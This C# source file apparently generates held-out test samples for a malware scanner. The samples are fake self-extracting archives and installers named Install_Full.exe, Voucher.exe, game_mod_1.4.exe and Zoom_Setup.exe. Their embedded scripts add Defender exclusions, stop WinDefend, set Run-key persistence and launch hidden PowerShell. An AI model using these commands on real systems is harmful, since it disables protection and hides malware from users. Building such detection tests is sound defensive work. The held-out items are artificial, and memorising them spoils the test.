using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Programs that carry others: self-extracting archives, installers and appended programs.</summary>
public sealed class SelfExtractors : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var program = new EighthImage { Is64 = false }.Runtime().Importing("KERNEL32.dll", "VirtualAllocEx WriteProcessMemory CreateRemoteThread").Section(".x", Noise(20000, 91), 0xE0000040).Build();
        var stub = new EighthImage { Is64 = false }.Runtime().Importing("SHELL32.dll", "ShellExecuteExW SHGetSpecialFolderPathW").Importing("OLEAUT32.dll", "SysAllocString VariantClear").Version("Igor Pavlov", "7z Setup SFX", "7zS.sfx.exe");
        yield return ("Install_Full.exe", stub.Overlay([.. Utf8("\uFEFF;!@Install@!UTF-8!\r\nTitle=\"Setup\"\r\nGUIMode=\"2\"\r\nMiscFlags=\"4\"\r\nOverwriteMode=\"1\"\r\nInstallPath=\"%TEMP%\\\\IXP001\"\r\nRunProgram=\"hidcon:cmd /c powershell Add-MpPreference -ExclusionPath %TEMP% & a.bat\"\r\nRunProgram=\"hidcon:svc.exe\"\r\n;!@InstallEnd@!\r\n")[3..],
            .. Packed("7z", null, ("a.bat", Dos("@echo off\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v svc /d \"%TEMP%\\IXP001\\svc.exe\" /f\nsc stop WinDefend\n")), ("svc.exe", program), ("readme.txt", Utf8("setup")))]).Build());
        yield return ("Voucher.exe", new EighthImage { Is64 = false }.Runtime().Importing("KERNEL32.dll", "GetTempPathW CreateProcessW GetModuleFileNameW SetFilePointer").With("WinRAR SFX", "__tmp_rar_sfx_access_check_").Overlay(
            [.. RarBuilder.Rar5("run.vbe", ScriptEncoder.Encode("CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -ep bypass -f v.ps1\", 0, False")), .. Dos(";The comment below contains SFX script commands\n\nPath=%AppData%\\Voucher\nSetup=wscript.exe run.vbe\nTempMode\nSilent=1\nOverwrite=1\n")]).Build());
        yield return ("game_mod_1.4.exe", new EighthImage().Runtime().Importing("KERNEL32.dll", "GetTempPathA GetModuleFileNameA SetFilePointer").Importing("SHELL32.dll", "ShellExecuteA").With("%TEMP%\\mod.exe", "open").Overlay([.. PdfBuilder.Document(), .. program, .. BitConverter.GetBytes(program.Length)]).Build());
        yield return ("Zoom_Setup.exe", Nullsoft(program));
    }

    private static byte[] Nullsoft(byte[] program)
    {
        using var folder = new TemporaryFolder();
        folder.Write("svchost.exe", program);
        folder.Write("d.dat", Noise(30000, 51));
        folder.Write("in.nsi", """
            Name "Zoom"
            OutFile "out.exe"
            SilentInstall silent
            RequestExecutionLevel user
            Section
              SetOutPath "$APPDATA\Zoom\bin_00"
              File "svchost.exe"
              File "d.dat"
              nsExec::Exec 'powershell -WindowStyle Hidden -Command "Add-MpPreference -ExclusionPath $APPDATA"'
              WriteRegStr HKCU "Software\Microsoft\Windows\CurrentVersion\Run" "Zoom" "$APPDATA\Zoom\bin_00\svchost.exe"
              Exec '"$APPDATA\Zoom\bin_00\svchost.exe" d.dat'
              ExecShell "open" "https://example.com/zoom"
              SelfDel:
            SectionEnd
            """);
        ForeignTool.Run(folder.Path, "makensis", "-V1", "in.nsi");
        return folder.Read("out.exe");
    }
}
